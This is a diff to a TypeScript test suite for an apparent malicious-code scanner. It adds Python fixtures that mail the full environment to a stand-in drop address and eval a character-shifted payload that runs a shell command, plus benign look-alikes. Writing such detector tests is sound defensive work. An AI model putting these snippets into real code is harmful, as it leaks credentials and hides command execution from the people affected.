@@ -17,6 +17,25 @@ const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3
 
 const PROGRAMS: { name: string; least: Severity; rule: string; source: string }[] = [
   {
+    name: 'the whole environment put into an email body by set_content and sent over SMTP',
+    least: 'high',
+    rule: 'exfiltration',
+    source: `import os, smtplib
+from email.message import EmailMessage
+msg = EmailMessage(); msg["Subject"] = "env"; msg.set_content(repr(dict(os.environ)))
+with smtplib.SMTP_SSL("smtp.example.com", 465) as s:
+    s.login("bot@example.com", "pw"); s.send_message(msg, "bot@example.com", ["drop@example.com"])
+`,
+  },
+  {
+    name: 'eval of text shifted back one character by a lambda decoder',
+    least: 'high',
+    rule: 'encoded-payload-exec',
+    source: `x = lambda s: "".join(map(lambda c: chr(ord(c) - 1), s))
+eval(x("fyfd)(jnqpsu!pt<pt/tztufn)#xipbnj#*(*"))
+`,
+  },
+  {
     name: 'a zip fetched at run time is unpacked and its directory put on sys.path, then imported',
     least: 'critical',
     rule: 'dropper',
@@ -345,7 +364,13 @@ for (const program of PROGRAMS) {
 }
 
 test('their benign look-alikes stay below high', () => {
-  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile
+  const benign = `import os, glob, shutil, pyperclip, socket, sys, zipfile, smtplib
+from email.message import EmailMessage
+report = EmailMessage(); report.set_content("nightly build finished: " + str(len(glob.glob("dist/*.whl"))) + " wheels")
+with smtplib.SMTP("localhost") as relay:
+    relay.send_message(report)
+shout = lambda text: text.upper()
+print(eval(shout("1 + 2")))
 zipfile.ZipFile("vendor/plugins.zip").extractall("vendor/plugins")
 sys.path.insert(0, "vendor/plugins")
 from tkinter import simpledialog
